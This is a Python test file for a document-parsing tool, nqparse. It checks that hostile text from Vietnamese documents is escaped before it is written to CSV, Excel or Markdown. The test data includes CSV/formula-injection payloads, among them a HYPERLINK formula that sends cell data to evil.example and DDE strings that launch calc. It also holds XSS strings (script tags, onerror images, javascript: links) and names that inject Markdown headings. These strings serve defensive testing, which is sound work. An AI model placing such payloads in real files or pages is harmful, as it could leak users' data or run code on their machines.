"""Text taken from a document, a units file or a unit's workbook never becomes a formula in a
spreadsheet nor markup in a Markdown file nqparse writes (issue 15, Hardening 3).

A hostile document can say anything: "=HYPERLINK(…)" to leak data when clicked, "=cmd|' /C calc'!A0"
to run a program, "<script>" or "[bấm](javascript:…)" for whoever views the Markdown rendered, a
line break in a unit name to add a heading of its own. The rule for spreadsheet cells and for
Markdown text is in ``nqparse.escape``.
"""
from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest

from nqparse.render.csv import write_csv_folder
from nqparse.escape import markdown_text, spreadsheet_text
from nqparse.render.markdown import to_markdown
from nqparse.workbook import INFO_UNIT, SHEET_INFO, SHEET_REFERENCES, SHEET_REGISTER, SHEET_TARGETS, SHEET_TASKS
from nqparse.render.xlsx import write_workbook
from nqparse.schema import Span
from tracking_sample import sample_resolution

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "- cmd|' /C calc'!A0",
    '- xem HYPERLINK("http://evil.example","tại đây")',
    "+ Sheet2!A1",
]
TEXT = [
    "- Nông, lâm nghiệp, thủy sản",
    "+ Ban Tổ chức (chủ trì), Văn phòng phối hợp",
    "- Kết nạp từ 40 - 50 đảng viên mới (trong đó 20% là đoàn viên)",
    "-5",
    "+84 912 345 678",
    "Tăng cường công tác = trọng tâm",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[bấm vào đây](javascript:alert(1))",
    "<javascript:alert(1)>",
    "Chi bộ A\n\n# Tiêu đề giả\n\n| cột | giả |",
]


def hostile_resolution(texts: list[str]):
    """The sample with ``texts`` as task quotes, a target's text, a citation's title and the title."""
    r = sample_resolution()
    for n, text in enumerate(texts):
        task = r.tasks[n % len(r.tasks)].model_copy(deep=True)
        task.id = f"{task.id}-x{n}"
        task.span = Span(start=0, end=0, quote=text)
        r.tasks.append(task)
    r.indicators[0].text = texts[0]
    r.references[0].title = texts[1 % len(texts)]
    r.metadata.title = texts[-1]
    return r


def csv_cells(folder: Path) -> list[str]:
    cells = []
    for path in folder.glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8-sig", newline="")):
            cells += row
    return cells


# --- the rule ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_could_run_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", TEXT)
def test_bullets_numbers_and_ordinary_text_are_written_as_they_are(text):
    assert spreadsheet_text(text) == text


# --- CSV --------------------------------------------------------------------------------------

def test_csv_cells_from_the_document_never_start_a_formula(tmp_path):
    write_csv_folder(hostile_resolution(FORMULAS), tmp_path / "csv")
    cells = csv_cells(tmp_path / "csv")
    for text in FORMULAS:
        assert "'" + text in cells, text
        assert text not in cells, text


def test_csv_keeps_the_bullets_of_a_real_document_as_written(shared_corpus, tmp_path):
    import nqparse

    path = shared_corpus / "archive" / "9b7eebadf7081069.md"
    if not path.is_file():
        pytest.skip(f"{path.name} is not in the shared corpus")
    write_csv_folder(nqparse.parse(path), tmp_path / "csv")
    cells = csv_cells(tmp_path / "csv")
    bullets = [c for c in cells if c.startswith(("- ", "+ "))]
    assert len(bullets) > 20, "the document's targets are listed with '- ' bullets"
    assert not [c for c in cells if c.startswith(("'- ", "'+ "))]


# --- the tracking workbook and the roll-up ----------------------------------------------------

def formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_workbook_keeps_every_document_string_a_string_with_the_quote_prefix(tmp_path):
    path = tmp_path / "theo-doi.xlsx"
    r = hostile_resolution(FORMULAS)
    r.metadata.code = "=HYPERLINK(\"http://evil.example\")"
    write_workbook(r, path)
    assert formula_cells(path) == []
    wb = openpyxl.load_workbook(path)
    strings = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in FORMULAS[:5]:
        assert strings[text].data_type == "s" and strings[text].quotePrefix, text
    assert wb[SHEET_REGISTER]["C1"].value == r.metadata.code and wb[SHEET_REGISTER]["C1"].quotePrefix


def test_a_unit_name_or_file_name_never_becomes_a_formula_in_the_roll_up(tmp_path):
    from nqparse.track import merge

    template = tmp_path / "theo-doi.xlsx"
    write_workbook(sample_resolution(), template)
    named = tmp_path / "a.xlsx"
    wb = openpyxl.load_workbook(template)
    for label, value in wb[SHEET_INFO].iter_rows(min_row=2):
        if label.value == INFO_UNIT:
            value.value = '=HYPERLINK("http://evil.example/?"&B2,"Chi bộ A")'  # typed as '=HYPERLINK(…)
            value.data_type = "s"
    ws = wb[SHEET_TASKS]
    ws.cell(row=2, column=[c.value for c in ws[1]].index("Ghi chú") + 1, value="=1+1").data_type = "s"
    wb.save(named)
    by_file = tmp_path / "=cmd|' -C calc'!A0.xlsx"
    by_file.write_bytes(template.read_bytes())
    out = tmp_path / "tong-hop" / "tong-hop.xlsx"
    merge([named, by_file], out)
    assert formula_cells(out) == []
    header = [c.value for c in openpyxl.load_workbook(out)["Tổng hợp chỉ tiêu"][1]]
    assert '=HYPERLINK("http://evil.example/?"&B2,"Chi bộ A")' in header and "=cmd|' -C calc'!A0" in header


# --- Markdown ---------------------------------------------------------------------------------

def assert_inert(markdown: str) -> None:
    """No raw HTML, no link or autolink, no heading or table row but the writer's own."""
    assert not re.search(r"<(script|img|javascript:)", markdown, re.IGNORECASE), markdown
    assert not re.search(r"(?<!\\)\]\(javascript:", markdown), "an unescaped ] opens a link"
    assert not re.search(r"^# Tiêu đề giả", markdown, re.MULTILINE)
    assert not re.search(r"^\| cột \| giả \|", markdown, re.MULTILINE)


@pytest.mark.parametrize("text", MARKUP)
def test_markdown_text_renders_as_the_text_itself(text):
    escaped = markdown_text(text)
    assert "\n" not in escaped
    assert_inert(escaped)


def test_parse_markdown_escapes_the_document_text():
    assert_inert(to_markdown(hostile_resolution(MARKUP)))


def test_plans_and_their_index_escape_unit_names_and_document_text(tmp_path):
    from nqparse.plan import Unit, generate_plans

    units = [Unit(name="Chi bộ <img src=x onerror=alert(1)>", kind="chi_bo", parent="Đảng bộ [bấm](javascript:alert(1))"),
             Unit(name="Chi bộ A\n\n# Tiêu đề giả", kind="chi_bo", secretary="<script>alert(2)</script>"),
             Unit(name="Văn phòng <script>x</script>", kind="so")]
    paths = generate_plans(hostile_resolution(MARKUP), units, tmp_path / "ke-hoach", fmt="md")
    for path in [*paths, tmp_path / "ke-hoach" / "index.md"]:
        assert_inert(path.read_text(encoding="utf-8"))
    text = paths[0].read_text(encoding="utf-8")
    assert "Chi bộ &lt;img src=x onerror=alert(1)>" in text, "the name is still there, as text"


def test_an_office_template_that_forgets_the_filter_is_escaped_all_the_same(tmp_path):
    from nqparse.plan import Unit, generate_plans

    templates = tmp_path / "mau"
    templates.mkdir()
    (templates / "ke-hoach.md.j2").write_text(
        "# {{ title }}\n\n{{ unit.name }}\n\n{{ unit.name | cell }}\n\n{{ unit.name | md }}\n", encoding="utf-8")
    [path] = generate_plans(sample_resolution(), [Unit(name="Chi bộ A\n# Tiêu đề giả <script>", kind="chi_bo")],
                            tmp_path / "out", fmt="md", template_dir=templates)
    text = path.read_text(encoding="utf-8")
    assert_inert(text)
    assert text.count("Chi bộ A # Tiêu đề giả &lt;script>") == 3, "filtered once, never twice"


def test_the_citation_report_escapes_titles_issuers_and_file_names():
    from nqparse.corpus.xref import build_report, to_markdown as xref_markdown

    r = hostile_resolution(MARKUP)
    r.metadata.issuer = "<img src=x onerror=alert(1)>"
    r.source.path = "kho/Chi bộ A\n\n# Tiêu đề giả.docx"
    r.metadata.number = None
    assert_inert(xref_markdown(build_report([r])))


def test_the_roll_up_summary_escapes_unit_and_file_names(tmp_path):
    from nqparse.track import merge

    template = tmp_path / "theo-doi.xlsx"
    write_workbook(sample_resolution(), template)
    hostile = tmp_path / "Chi bộ A\n\n# Tiêu đề giả <img src=x onerror=alert(1)>.xlsx"
    hostile.write_bytes(template.read_bytes())
    other = tmp_path / "b.xlsx"
    wb = openpyxl.load_workbook(template)
    for label, value in wb[SHEET_INFO].iter_rows(min_row=2):
        if label.value == INFO_UNIT:
            value.value = "[Chi bộ B](javascript:alert(1)) <script>"
    wb.save(other)
    out = tmp_path / "tong-hop" / "tong-hop.xlsx"
    merge([hostile, other], out)
    assert_inert(out.with_suffix(".md").read_text(encoding="utf-8"))
